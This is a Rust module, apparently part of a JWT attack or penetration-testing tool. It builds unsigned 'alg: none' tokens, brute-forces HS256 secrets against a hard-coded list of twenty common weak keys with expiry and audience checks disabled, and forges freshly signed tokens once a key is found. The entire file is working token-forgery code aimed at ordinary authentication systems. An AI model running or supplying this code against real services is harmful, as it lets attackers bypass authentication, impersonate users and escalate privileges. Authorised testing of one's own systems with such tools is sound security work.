//! Tokens that nobody issued.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey, Header, Validation, decode, encode};
use serde_json::Value;

/// Secrets that are tried first everywhere.
const SECRETS: [&str; 20] = [
    "secret",
    "password",
    "changeme",
    "123456",
    "12345678",
    "jwt",
    "jwt-secret",
    "jwt_secret",
    "your-256-bit-secret",
    "secretkey",
    "secret-key",
    "mysecret",
    "supersecret",
    "key",
    "test",
    "dev",
    "development",
    "admin",
    "token",
    "s3cr3t",
];

/// An unsigned token with these claims, in a spelling of `none`.
pub(crate) fn unsigned(claims: &Value, spelling: &str) -> String {
    let header = URL_SAFE_NO_PAD.encode(format!(r#"{{"alg":"{spelling}","typ":"JWT"}}"#));
    format!("{header}.{}.", URL_SAFE_NO_PAD.encode(claims.to_string()))
}

/// The secret of an HS256 token, when it is one that everybody tries.
pub(crate) fn crack(token: &str) -> Option<&'static str> {
    let mut validation = Validation::new(Algorithm::HS256);
    validation.required_spec_claims.clear();
    validation.validate_exp = false;
    validation.validate_aud = false;
    SECRETS.into_iter().find(|secret| {
        decode::<Value>(token, &DecodingKey::from_secret(secret.as_bytes()), &validation).is_ok()
    })
}

/// A token signed with a secret that was found.
pub(crate) fn forge(claims: &Value, secret: &str) -> Option<String> {
    encode(&Header::new(Algorithm::HS256), claims, &EncodingKey::from_secret(secret.as_bytes())).ok()
}
